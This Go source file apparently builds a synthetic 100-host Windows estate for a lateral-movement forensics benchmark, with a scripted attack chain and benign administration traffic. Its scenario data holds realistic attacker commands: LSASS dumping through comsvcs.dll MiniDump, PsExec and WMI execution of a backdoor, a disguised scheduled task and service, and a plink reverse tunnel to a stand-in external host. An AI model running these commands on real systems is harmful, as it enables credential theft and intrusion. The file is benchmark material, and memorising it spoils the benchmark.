// Package synthcase builds the movement benchmark's synthetic case: an
// estate of 100 hosts (82 workstations, 15 servers, a domain controller,
// an uncollected admin workstation and an unknown machine behind a
// tunnel) with at least ten million events, an attack chain across eleven
// hosts and benign administration around it.
//
// The movement evidence is the forge's (forge/scenario): every technique
// leaves both sides as Windows logs them, written as real .evtx files and
// read back by the evtx parser, so the case holds exactly what an ingest
// of those logs stores. The bulk of the events (MFT, USN, Prefetch,
// registry) is filler with the parsers' field sets, emitted straight into
// the case writer. Everything is deterministic: the same version builds
// the same case.
package synthcase

import (
	"fmt"
	"time"

	"github.com/foothold/foothold/forge/scenario"
)

// Version names the case layout; bump it whenever the scenario or the
// filler changes, so cached cases are rebuilt.
const Version = 2

// Estate sizes.
const (
	Workstations = 82
	Servers      = 15 // plus the domain controller
)

func ts(s string) time.Time {
	t, err := time.Parse(time.RFC3339, s)
	if err != nil {
		panic(err) // constant input
	}
	return t
}

func wsName(i int) string   { return fmt.Sprintf("WS-%04d", i) }
func userName(i int) string { return fmt.Sprintf(`CORP\u%04d`, i) }

// serverNames are the servers; the first few carry the story.
var serverNames = []string{"FS01", "BUILD01", "SQL01", "APP01", "BKP01", "WEB01", "MGMT01", "PRINT01",
	"EXCH01", "FS02", "APP02", "SQL02", "WSUS01", "CA01", "JUMP01"}

// Scenario is the estate and its story at true UTC times. The attack
// (edges E*) starts from an internet download on WS-0007 and reaches
// WS-0023, FS01, BUILD01, DC01, SQL01, APP01, BKP01, WS-0042, WEB01 and
// WS-0061; the benign edges (B*) come from hosts the attacker never holds,
// or repeat nightly from before the compromise.
func Scenario(density float64) *scenario.Scenario {
	s := &scenario.Scenario{
		Name:         "synth100",
		Description:  "100-host movement benchmark estate",
		Seed:         fmt.Sprintf("synthcase-v%d", Version),
		Start:        ts("2023-03-01T00:00:00Z"),
		CollectedAt:  ts("2023-03-16T09:00:00Z"),
		Background:   &scenario.Background{Density: density},
		Organisation: scenario.Organisation{Domain: "CORP", DNS: "corp.example", SID: "S-1-5-21-1004336348-1177238915-682003330"},
	}
	img := &scenario.Image{Container: "raw", Scheme: "mbr", Size: 40 << 20}
	win10 := scenario.OS{Product: "Windows 10 Pro", Version: "22H2", Build: 19045}
	win11 := scenario.OS{Product: "Windows 11 Pro", Version: "22H2", Build: 22621}
	srv19 := scenario.OS{Product: "Windows Server 2019 Standard", Version: "1809", Build: 17763}
	srv22 := scenario.OS{Product: "Windows Server 2022 Standard", Version: "21H2", Build: 20348}
	zones := []string{"UTC", "Eastern Standard Time", "GMT Standard Time", "W. Europe Standard Time"}
	offsets := map[string]time.Duration{"WS-0023": -41 * time.Second, "FS01": 97 * time.Second,
		"SQL01": 12 * time.Second, "WS-0042": -7 * time.Second, "BKP01": 30 * time.Second}
	for i := 1; i <= Workstations; i++ {
		name := wsName(i)
		os := win10
		if i%3 == 0 {
			os = win11
		}
		h := scenario.Host{Name: name, Role: "workstation", OS: os, TimeZone: zones[i%len(zones)],
			ClockOffset: scenario.Duration(offsets[name]), Prefetch: true, Collected: true, Image: img,
			Sysmon: i%10 == 0}
		// DHCP: every fifth workstation changed address mid-way, and an
		// old address passes to another host, as leases do.
		cur := fmt.Sprintf("10.20.%d.%d", 1+i/200, 10+i%200)
		if i%5 == 0 {
			old := fmt.Sprintf("10.20.9.%d", 10+i)
			h.Addresses = []scenario.Address{{IP: old, Until: ts("2023-03-08T07:00:00Z")}, {IP: cur}}
		} else {
			h.Addresses = []scenario.Address{{IP: cur}}
		}
		s.Hosts = append(s.Hosts, h)
	}
	for i, name := range serverNames {
		os := srv19
		if i%2 == 1 {
			os = srv22
		}
		s.Hosts = append(s.Hosts, scenario.Host{Name: name, Role: "server", OS: os, TimeZone: "UTC",
			ClockOffset: scenario.Duration(offsets[name]), Collected: true, Image: img, Sysmon: name == "BUILD01" || name == "APP01",
			Addresses: []scenario.Address{{IP: fmt.Sprintf("10.10.10.%d", 20+i), Static: true}}})
	}
	s.Hosts = append(s.Hosts,
		scenario.Host{Name: "DC01", Role: "dc", OS: srv19, TimeZone: "UTC", Collected: true, Image: img, Sysmon: true,
			Addresses: []scenario.Address{{IP: "10.10.10.5", Static: true}}},
		scenario.Host{Name: "ADMIN-WS07", Role: "workstation", Addresses: []scenario.Address{{IP: "10.10.30.40"}}},
	)

	for i := 1; i <= Workstations; i++ {
		roles := []string{"user"}
		if i == 23 {
			roles = append(roles, "admin:FS01")
		}
		s.Users = append(s.Users, scenario.User{Account: userName(i), RID: 2000 + i, Roles: roles, Home: wsName(i)})
	}
	s.Users = append(s.Users,
		scenario.User{Account: `CORP\it.helpdesk`, RID: 1120, Roles: []string{"workstation-admin"}},
		scenario.User{Account: `CORP\svc_backup`, RID: 1131, Roles: []string{"service", "admin:BUILD01"}},
		scenario.User{Account: `CORP\svc_build`, RID: 1132, Roles: []string{"service", "admin:FS01"}},
		scenario.User{Account: `CORP\svc_deploy`, RID: 1133, Roles: []string{"service", "workstation-admin"}},
		scenario.User{Account: `CORP\adm.jchen`, RID: 1104, Roles: []string{"domain-admin"}},
		scenario.User{Account: `CORP\adm.pmeyer`, RID: 1105, Roles: []string{"domain-admin"}},
	)

	backdoor := `C:\ProgramData\TPM\TpmVscMgrSvr.exe`
	installer := `C:\Users\u0007\Downloads\TraderSetup_7.17.exe`
	s.Edges = []scenario.Edge{
		{ID: "E0", Time: ts("2023-03-07T09:10:12Z"), Source: "WS-0007", Destination: "WS-0023", Technique: "admin-share",
			Account: `CORP\it.helpdesk`, SourceUser: userName(7), Authentication: "pass-the-hash", Attack: true,
			Command: `cmd.exe /c copy ` + backdoor + ` \\WS-0023\C$\ProgramData\TPM\TpmVscMgrSvr.exe`, File: backdoor},
		{ID: "E1", Time: ts("2023-03-07T09:14:03Z"), Source: "WS-0007", Destination: "WS-0023", Technique: "wmi",
			Account: `CORP\it.helpdesk`, SourceUser: userName(7), Authentication: "pass-the-hash", Attack: true,
			Command: `wmic /node:WS-0023 process call create "` + backdoor + `"`, Payload: backdoor},
		{ID: "E2", Time: ts("2023-03-08T02:10:45Z"), Source: "WS-0023", Destination: "FS01", Technique: "psexec",
			Account: userName(23), Authentication: "kerberos", Attack: true,
			Command: `C:\Users\u0023\AppData\Local\Temp\PsExec64.exe -accepteula \\FS01 -s cmd.exe`, Payload: "cmd.exe"},
		{ID: "E3", Time: ts("2023-03-09T11:47:20Z"), Source: "FS01", Destination: "BUILD01", Technique: "scheduled-task",
			Account: `CORP\svc_backup`, SourceUser: userName(23), Authentication: "explicit-credentials", Attack: true,
			Command: `schtasks /create /s BUILD01 /u CORP\svc_backup /p ******** /ru SYSTEM /tn "\Microsoft\Windows\UpdateOrchestrator\Backup Scan" /tr "` + backdoor + `" /sc onstart`,
			Task:    &scenario.Task{Name: `\Microsoft\Windows\UpdateOrchestrator\Backup Scan`, Command: backdoor, RunAs: "SYSTEM"}},
		{ID: "E4", Time: ts("2023-03-10T08:30:00Z"), Source: "BUILD01", Destination: "DC01", Technique: "winrm",
			Account: `CORP\adm.jchen`, SourceUser: `CORP\svc_backup`, Authentication: "overpass-the-hash", Attack: true,
			Command: `Invoke-Command -ComputerName DC01 -ScriptBlock { whoami /all; Get-ADDomainController }`},
		{ID: "E5", Time: ts("2023-03-10T09:02:10Z"), Source: "DC01", Destination: "SQL01", Technique: "dcom",
			Account: `CORP\adm.jchen`, Authentication: "kerberos", Attack: true,
			Payload: `C:\Windows\System32\cmd.exe /c ` + backdoor},
		{ID: "E6", Time: ts("2023-03-10T10:15:00Z"), Source: "DC01", Destination: "APP01", Technique: "psexec",
			Account: `CORP\adm.jchen`, Authentication: "kerberos", Attack: true,
			Command: `C:\Windows\Temp\PsExec64.exe -accepteula \\APP01 -s cmd.exe`, Payload: "cmd.exe"},
		{ID: "E7", Time: ts("2023-03-10T11:40:30Z"), Source: "DC01", Destination: "BKP01", Technique: "remote-service",
			Account: `CORP\adm.jchen`, Authentication: "kerberos", Attack: true,
			Service: &scenario.Service{Name: "WinSvcUpd", ImagePath: `%COMSPEC% /Q /c ` + backdoor}},
		{ID: "E8", Time: ts("2023-03-11T02:05:00Z"), Source: "APP01", Destination: "WS-0042", Technique: "wmi",
			Account: `CORP\adm.jchen`, Authentication: "kerberos", Attack: true,
			Command: `wmic /node:WS-0042 process call create "` + backdoor + `"`, Payload: backdoor},
		{ID: "E9", Time: ts("2023-03-11T03:20:00Z"), Source: "SQL01", Destination: "WEB01", Technique: "winrm",
			Account: `CORP\adm.jchen`, Authentication: "kerberos", Attack: true,
			Command: `Invoke-Command -ComputerName WEB01 -ScriptBlock { Get-Process }`},
		{ID: "E10a", Time: ts("2023-03-12T01:12:44Z"), Source: scenario.Unknown, SourceAddress: "127.0.0.1",
			Via: "tunnel to 203.0.113.50 from BUILD01", Destination: "BUILD01", Technique: "rdp",
			Account: `CORP\adm.jchen`, Authentication: "ntlm", Attack: true},
		{ID: "E10b", Time: ts("2023-03-12T01:30:05Z"), Source: "BUILD01", Destination: "WS-0061", Technique: "rdp",
			Account: `CORP\adm.jchen`, Authentication: "kerberos", Attack: true},

		// Benign administration.
		{ID: "B1", Time: ts("2023-03-01T03:00:00Z"), Repeat: &scenario.Repeat{Every: scenario.Duration(24 * time.Hour), Count: 15},
			Source: "BUILD01", Destination: "FS01", Technique: "admin-share", Account: `CORP\svc_build`, Authentication: "kerberos",
			Note: "nightly copy of build output", Command: `cmd.exe /c copy C:\Build\out\app.zip \\FS01\C$\Builds\app.zip`, File: `C:\Builds\app.zip`},
		{ID: "B2", Time: ts("2023-03-02T15:30:00Z"), Times: []time.Time{ts("2023-03-09T09:12:00Z")},
			Source: "ADMIN-WS07", Destination: "DC01", Technique: "rdp", Account: `CORP\adm.pmeyer`, Authentication: "kerberos",
			Note: "routine administration"},
		{ID: "B3", Time: ts("2023-03-02T16:05:00Z"), Source: "ADMIN-WS07", Destination: "FS01", Technique: "psexec",
			Account: `CORP\adm.pmeyer`, Authentication: "kerberos", Note: "routine administration"},
	}
	// Helpdesk RDP into workstations, and weekly software deployment from
	// the management server: the estate's normal remote access.
	n := 4
	for i := 3; i <= Workstations; i += 7 {
		t := s.Start.Add(time.Duration(26+i*3)*time.Hour + time.Duration(i*37)*time.Second)
		s.Edges = append(s.Edges, scenario.Edge{ID: fmt.Sprintf("B%d", n), Time: t, Source: "ADMIN-WS07", Destination: wsName(i),
			Technique: "rdp", Account: `CORP\it.helpdesk`, Authentication: "kerberos", Note: "helpdesk session"})
		n++
	}
	for i := 2; i <= Workstations; i += 4 {
		t := s.Start.Add(time.Duration(40+i)*time.Hour + time.Duration(i*11)*time.Second)
		s.Edges = append(s.Edges, scenario.Edge{ID: fmt.Sprintf("B%d", n), Time: t, Repeat: &scenario.Repeat{Every: scenario.Duration(7 * 24 * time.Hour), Count: 2},
			Source: "MGMT01", Destination: wsName(i), Technique: "remote-service", Account: `CORP\svc_deploy`, Authentication: "kerberos",
			Note:    "software deployment",
			Service: &scenario.Service{Name: "DeployAgent", ImagePath: `C:\Windows\Temp\deploy\agent.exe /install`}})
		n++
	}

	s.Actions = []scenario.Action{
		{Time: ts("2023-03-01T00:10:00Z"), Host: "BUILD01", Kind: "file", Path: `C:\Build\out\app.zip`, Size: 32768},
		{ID: "download", Time: ts("2023-03-06T14:02:31Z"), Host: "WS-0007", Kind: "download", User: userName(7), Path: installer,
			URL: "https://download.trader.example/TraderSetup_7.17.exe", Referrer: "https://www.trader.example/downloads/", Zone: 3,
			Size: 262144, Signed: true, Publisher: "Trader Example, Inc"},
		{ID: "install", Seed: true, Time: ts("2023-03-06T14:05:09Z"), Host: "WS-0007", Kind: "run", User: userName(7), Interactive: true,
			Path: installer, Command: `"` + installer + `"`, Parent: `C:\Windows\explorer.exe`},
		{ID: "drop-exe", Time: ts("2023-03-06T14:05:40Z"), Host: "WS-0007", Kind: "file", User: userName(7), Path: backdoor, Size: 49152},
		{ID: "drop", Time: ts("2023-03-06T14:05:40Z"), Host: "WS-0007", Kind: "run", User: userName(7), Path: backdoor, Command: backdoor, Parent: installer},
		{ID: "lsass-ws", Time: ts("2023-03-07T08:52:17Z"), Host: "WS-0007", Kind: "lsass-dump", User: userName(7),
			Command: `rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 712 C:\Windows\Temp\lsass.dmp full`,
			Path:    `C:\Windows\System32\rundll32.exe`, Parent: backdoor, Creates: []string{`C:\Windows\Temp\lsass.dmp`}},
		{ID: "psexec-download", Time: ts("2023-03-07T22:30:00Z"), Host: "WS-0023", Kind: "file", User: userName(23),
			Path: `C:\Users\u0023\AppData\Local\Temp\PsExec64.exe`, Size: 131072},
		{ID: "lsass-build", Time: ts("2023-03-10T07:58:40Z"), Host: "BUILD01", Kind: "lsass-dump", User: "SYSTEM",
			Command: `rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 688 C:\Windows\Temp\dbg.dmp full`,
			Path:    `C:\Windows\System32\rundll32.exe`, Parent: backdoor, Creates: []string{`C:\Windows\Temp\dbg.dmp`}},
		{ID: "plink-drop", Time: ts("2023-03-12T00:50:00Z"), Host: "BUILD01", Kind: "file", User: "SYSTEM", Path: `C:\ProgramData\TPM\plink.exe`, Size: 98304},
		{ID: "tunnel", Time: ts("2023-03-12T00:55:00Z"), Host: "BUILD01", Kind: "tunnel", User: "SYSTEM", Path: `C:\ProgramData\TPM\plink.exe`,
			Command: `C:\ProgramData\TPM\plink.exe -R 127.0.0.1:3390:127.0.0.1:3389 -P 443 -l tun -pw ******** 203.0.113.50`,
			Parent:  backdoor, Remote: "203.0.113.50:443"},
	}
	return s
}

// AttackOrder is the order in which the attack reaches the hosts (true
// time), seed host first.
var AttackOrder = []string{"WS-0007", "WS-0023", "FS01", "BUILD01", "DC01", "SQL01", "APP01", "BKP01", "WS-0042", "WEB01", "WS-0061"}
